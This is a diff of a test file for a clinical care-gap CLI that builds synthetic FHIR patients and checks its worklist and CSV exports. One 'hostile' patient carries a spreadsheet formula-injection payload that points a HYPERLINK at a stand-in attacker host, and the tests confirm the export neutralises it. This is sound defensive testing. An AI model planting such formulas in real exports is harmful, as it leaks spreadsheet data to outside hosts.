@@ -14,7 +14,14 @@ import { dirname, join, resolve } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createSandbox } from '../../launch/sandbox/sandbox.ts';
-import { evaluatePatient, patientIdentity, recordFromResources, worklistLines, worklistRows, type WorklistRow } from '../../src/engine/index.ts';
+import {
+  evaluatePatient,
+  patientIdentity,
+  recordFromResources,
+  worklistLines,
+  worklistRows,
+  type WorklistRow,
+} from '../../src/engine/index.ts';
 import { parseCsv } from '../engine/report/parse-csv.ts';
 
 const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '../..');
@@ -28,15 +35,23 @@ let dir: string;
 const byPatient = new Map<string, fhir4.Resource[]>();
 
 function run(...args: string[]): { code: number | null; stdout: string; stderr: string } {
-  const r = spawnSync(process.execPath, [CLI, 'evaluate', ...ARGS, ...args, dir], { cwd: ROOT, encoding: 'utf8', timeout: 120_000 });
+  const r = spawnSync(process.execPath, [CLI, 'evaluate', ...ARGS, ...args, dir], {
+    cwd: ROOT,
+    encoding: 'utf8',
+    timeout: 120_000,
+  });
   return { code: r.status, stdout: r.stdout, stderr: r.stderr };
 }
 
 /** An adult with an office visit on 2026-05-04 (−04:00) and no depression or SDOH screening: CMS2 and SDOH gaps open. */
 function unscreened(id: string, patient: Partial<fhir4.Patient>, participant?: fhir4.Reference): fhir4.Resource[] {
   const enc: fhir4.Encounter = {
-    resourceType: 'Encounter', id: `${id}-visit`, status: 'finished', class: { system: 'http://terminology.hl7.org/CodeSystem/v3-ActCode', code: 'AMB' },
-    type: [{ coding: [{ system: 'http://www.ama-assn.org/go/cpt', code: '99213' }] }], subject: { reference: `Patient/${id}` },
+    resourceType: 'Encounter',
+    id: `${id}-visit`,
+    status: 'finished',
+    class: { system: 'http://terminology.hl7.org/CodeSystem/v3-ActCode', code: 'AMB' },
+    type: [{ coding: [{ system: 'http://www.ama-assn.org/go/cpt', code: '99213' }] }],
+    subject: { reference: `Patient/${id}` },
     period: { start: '2026-05-04T16:00:00-04:00', end: '2026-05-04T16:30:00-04:00' },
     ...(participant ? { participant: [{ individual: participant }] } : {}),
   };
@@ -46,13 +61,48 @@ function unscreened(id: string, patient: Partial<fhir4.Patient>, participant?: f
 beforeAll(() => {
   dir = mkdtempSync(join(tmpdir(), 'caregap-worklist-'));
   const sandbox = createSandbox({ origin: 'http://localhost:1', seed: 7, patientCount: 30, anchorDate: AS_OF });
-  for (const p of sandbox.patients()) byPatient.set(p.id, sandbox.resourcesFor(p.id));
-  byPatient.set('hostile', unscreened('hostile', { name: [{ given: ['=HYPERLINK("http://evil.example/?"&A1'], family: '"Click")' }], identifier: [{ type: MR, value: '-1+1' }], telecom: [{ system: 'phone', value: '+1 555 0100' }], generalPractitioner: [{ reference: 'Practitioner/x', display: '@Dr Evil' }] }));
-  byPatient.set('maria-1', unscreened('maria-1', { name: [{ given: ['Maria'], family: 'Garcia' }], birthDate: '1961-03-14', identifier: [{ type: MR, value: 'MRN-1' }], generalPractitioner: [{ reference: 'Practitioner/dr-rivera', display: 'Dr. Ana Rivera' }] }));
-  byPatient.set('maria-2', unscreened('maria-2', { name: [{ given: ['Maria'], family: 'Garcia' }], birthDate: '1984-11-02', identifier: [{ type: MR, value: 'MRN-2' }] }, { reference: 'Practitioner/np-chen', display: 'NP Lily Chen' }));
+  for (const p of sandbox.patients()) {
+    byPatient.set(p.id, sandbox.resourcesFor(p.id));
+  }
+  byPatient.set(
+    'hostile',
+    unscreened('hostile', {
+      name: [{ given: ['=HYPERLINK("http://evil.example/?"&A1'], family: '"Click")' }],
+      identifier: [{ type: MR, value: '-1+1' }],
+      telecom: [{ system: 'phone', value: '+1 555 0100' }],
+      generalPractitioner: [{ reference: 'Practitioner/x', display: '@Dr Evil' }],
+    }),
+  );
+  byPatient.set(
+    'maria-1',
+    unscreened('maria-1', {
+      name: [{ given: ['Maria'], family: 'Garcia' }],
+      birthDate: '1961-03-14',
+      identifier: [{ type: MR, value: 'MRN-1' }],
+      generalPractitioner: [{ reference: 'Practitioner/dr-rivera', display: 'Dr. Ana Rivera' }],
+    }),
+  );
+  byPatient.set(
+    'maria-2',
+    unscreened(
+      'maria-2',
+      {
+        name: [{ given: ['Maria'], family: 'Garcia' }],
+        birthDate: '1984-11-02',
+        identifier: [{ type: MR, value: 'MRN-2' }],
+      },
+      { reference: 'Practitioner/np-chen', display: 'NP Lily Chen' },
+    ),
+  );
   const byType = new Map<string, string[]>();
-  for (const resources of byPatient.values()) for (const r of resources) byType.set(r.resourceType, [...(byType.get(r.resourceType) ?? []), JSON.stringify(r)]);
-  for (const [type, lines] of byType) writeFileSync(join(dir, `${type}.ndjson`), `${lines.join('\n')}\n`);
+  for (const resources of byPatient.values()) {
+    for (const r of resources) {
+      byType.set(r.resourceType, [...(byType.get(r.resourceType) ?? []), JSON.stringify(r)]);
+    }
+  }
+  for (const [type, lines] of byType) {
+    writeFileSync(join(dir, `${type}.ndjson`), `${lines.join('\n')}\n`);
+  }
 });
 afterAll(() => rmSync(dir, { recursive: true, force: true }));
 
@@ -72,17 +122,38 @@ describe('caregap evaluate --format worklist', { timeout: 180_000 }, () => {
     expect(run('--format', 'worklist', '--jobs', '2').stdout).toBe(r.stdout);
 
     const [header, ...rows] = parseCsv(r.stdout);
-    expect(header).toEqual(['name', 'birth-date', 'mrn', 'phone', 'clinician', 'gap-id', 'gap-title', 'due', 'days-left', 'risk', 'flags', 'action', 'reason', 'patient']);
+    expect(header).toEqual([
+      'name',
+      'birth-date',
+      'mrn',
+      'phone',
+      'clinician',
+      'gap-id',
+      'gap-title',
+      'due',
+      'days-left',
+      'risk',
+      'flags',
+      'action',
+      'reason',
+      'patient',
+    ]);
     const col = (name: string) => header!.indexOf(name);
     const dues = rows.map((row) => row[col('due')]!).filter(Boolean);
     expect(dues).toEqual([...dues].sort());
     for (const row of rows) {
-      if (row[col('due')]) expect(row[col('due')]! >= AS_OF).toBe(true);
-      if (row[col('due')]) expect(Number(row[col('days-left')])).toBe((Date.parse(row[col('due')]!) - Date.parse(AS_OF)) / 86_400_000);
+      if (row[col('due')]) {
+        expect(row[col('due')]! >= AS_OF).toBe(true);
+      }
+      if (row[col('due')]) {
+        expect(Number(row[col('days-left')])).toBe((Date.parse(row[col('due')]!) - Date.parse(AS_OF)) / 86_400_000);
+      }
     }
     // the sandbox's patients carry name, birth date, MRN, phone and their clinician's name
     const sandboxRow = rows.find((row) => row[col('patient')]!.startsWith('Patient/pt-'))!;
-    for (const c of ['name', 'birth-date', 'mrn', 'phone']) expect(sandboxRow[col(c)]).toBeTruthy();
+    for (const c of ['name', 'birth-date', 'mrn', 'phone']) {
+      expect(sandboxRow[col(c)]).toBeTruthy();
+    }
     expect(sandboxRow[col('clinician')]).toMatch(/^(Dr\.|NP) /);
   });
 
@@ -92,15 +163,28 @@ describe('caregap evaluate --format worklist', { timeout: 180_000 }, () => {
     expect(hostile.length).toBeGreaterThan(0);
     for (const row of hostile) {
       expect(row).toHaveLength(header!.length);
-      expect(row.slice(0, 5)).toEqual(['\'=HYPERLINK("http://evil.example/?"&A1 "Click")', '1970-01-01', "'-1+1", "'+1 555 0100", "'@Dr Evil"]);
+      expect(row.slice(0, 5)).toEqual([
+        '\'=HYPERLINK("http://evil.example/?"&A1 "Click")',
+        '1970-01-01',
+        "'-1+1",
+        "'+1 555 0100",
+        "'@Dr Evil",
+      ]);
     }
   });
 
   it('tells the two Maria Garcias apart by birth date, MRN and clinician (one by generalPractitioner, one by her visits)', () => {
     const [header, ...rows] = parseCsv(run('--format', 'worklist').stdout);
-    const marias = new Map(rows.filter((row) => row[0] === 'Maria Garcia').map((row) => [row.at(-1), row.slice(1, 5).filter((_, i) => i !== 2)]));
+    const marias = new Map(
+      rows
+        .filter((row) => row[0] === 'Maria Garcia')
+        .map((row) => [row.at(-1), row.slice(1, 5).filter((_, i) => i !== 2)]),
+    );
     expect(header!.slice(1, 5)).toEqual(['birth-date', 'mrn', 'phone', 'clinician']);
-    expect(Object.fromEntries(marias)).toEqual({ 'Patient/maria-1': ['1961-03-14', 'MRN-1', 'Dr. Ana Rivera'], 'Patient/maria-2': ['1984-11-02', 'MRN-2', 'NP Lily Chen'] });
+    expect(Object.fromEntries(marias)).toEqual({
+      'Patient/maria-1': ['1961-03-14', 'MRN-1', 'Dr. Ana Rivera'],
+      'Patient/maria-2': ['1984-11-02', 'MRN-2', 'NP Lily Chen'],
+    });
   });
 });
 
@@ -108,17 +192,27 @@ describe('caregap evaluate --format summary, csv: clinician strata and identity'
   it('stratifies every summary MeasureReport group by attributed clinician; strata add up to the totals', () => {
     const r = run('--format', 'summary');
     expect(r.code, r.stderr).toBe(0);
-    const reports = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as fhir4.MeasureReport);
+    const reports = r.stdout
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l) as fhir4.MeasureReport);
     expect(reports.length).toBeGreaterThanOrEqual(6);
-    const count = (pops: fhir4.MeasureReportGroupPopulation[] | undefined, code: string) => pops!.find((p) => p.code!.coding![0]!.code === code)!.count!;
-    for (const report of reports)
+    const count = (pops: fhir4.MeasureReportGroupPopulation[] | undefined, code: string) =>
+      pops!.find((p) => p.code!.coding![0]!.code === code)!.count!;
+    for (const report of reports) {
       for (const g of report.group!) {
         const strata = g.stratifier![0]!.stratum!;
         // an episode measure's groups (fuh, fum, fua, tcm) have no exception population
         const codes = g.population!.map((p) => p.code!.coding![0]!.code!);
         expect(codes.length).toBeGreaterThanOrEqual(4);
-        for (const code of codes) expect(strata.reduce((n, s) => n + count(s.population, code), 0), `${report.id} ${g.id} ${code}`).toBe(count(g.population, code));
+        for (const code of codes) {
+          expect(
+            strata.reduce((n, s) => n + count(s.population, code), 0),
+            `${report.id} ${g.id} ${code}`,
+          ).toBe(count(g.population, code));
+        }
       }
+    }
     const labels = reports[0]!.group![0]!.stratifier![0]!.stratum!.map((s) => s.value!.text);
     expect(labels).toEqual(expect.arrayContaining(['Dr. Ana Rivera', 'NP Lily Chen', 'Dr. Chidi Okafor', '@Dr Evil']));
   });
@@ -130,7 +224,12 @@ describe('caregap evaluate --format summary, csv: clinician strata and identity'
     const [header, ...rows] = parseCsv(readFileSync(out, 'utf8'));
     expect(header!.slice(0, 5)).toEqual(['patient', 'name', 'birth-date', 'mrn', 'clinician']);
     const hostile = rows.find((row) => row[0] === 'Patient/hostile')!;
-    expect(hostile.slice(1, 5)).toEqual(['\'=HYPERLINK("http://evil.example/?"&A1 "Click")', '1970-01-01', "'-1+1", "'@Dr Evil"]);
+    expect(hostile.slice(1, 5)).toEqual([
+      '\'=HYPERLINK("http://evil.example/?"&A1 "Click")',
+      '1970-01-01',
+      "'-1+1",
+      "'@Dr Evil",
+    ]);
     expect(rows.every((row) => row.length === header!.length)).toBe(true);
   });
 });
